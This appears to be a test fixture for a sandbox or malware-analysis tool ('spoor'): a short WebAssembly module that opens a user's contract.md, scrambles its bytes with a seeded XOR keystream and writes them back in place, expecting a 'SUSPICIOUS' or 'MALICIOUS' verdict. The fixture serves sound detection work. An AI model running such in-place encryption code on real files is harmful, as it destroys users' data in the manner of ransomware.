;; RUN: spoor run % -q --fail-on never
;; WHAT: Encrypts one document in place, as something that works a file a day would.
;; EXPECT: verdict=SUSPICIOUS|MALICIOUS rule=impact/damage file=/home/user/documents/contract.md:changed
(module
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_pread" (func $fd_pread (param i32 i32 i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_pwrite" (func $fd_pwrite (param i32 i32 i32 i64 i32) (result i32)))
  (memory (export "memory") 2)
  (data (i32.const 64) "home/user/documents/contract.md")
  (func $scramble (param $len i32) (local $at i32) (local $key i32)
    (local.set $key (i32.const 0x5eed))
    (loop $byte
      (local.set $key (i32.add (i32.mul (local.get $key) (i32.const 1103515245)) (i32.const 12345)))
      (i32.store8 offset=1024 (local.get $at)
        (i32.xor (i32.load8_u offset=1024 (local.get $at)) (i32.shr_u (local.get $key) (i32.const 16))))
      (br_if $byte
        (i32.lt_u (local.tee $at (i32.add (local.get $at) (i32.const 1))) (local.get $len)))))
  (func (export "_start") (local $fd i32)
    (drop (call $path_open (i32.const 3) (i32.const 0) (i32.const 64) (i32.const 31) (i32.const 0)
      (i64.const 0x1fffffff) (i64.const 0) (i32.const 0) (i32.const 16)))
    (local.set $fd (i32.load (i32.const 16)))
    (i32.store (i32.const 0) (i32.const 1024))
    (i32.store (i32.const 4) (i32.const 65536))
    (drop (call $fd_pread (local.get $fd) (i32.const 0) (i32.const 1) (i64.const 0) (i32.const 8)))
    (i32.store (i32.const 4) (i32.load (i32.const 8)))
    (call $scramble (i32.load (i32.const 8)))
    (drop (call $fd_pwrite (local.get $fd) (i32.const 0) (i32.const 1) (i64.const 0) (i32.const 8)))))
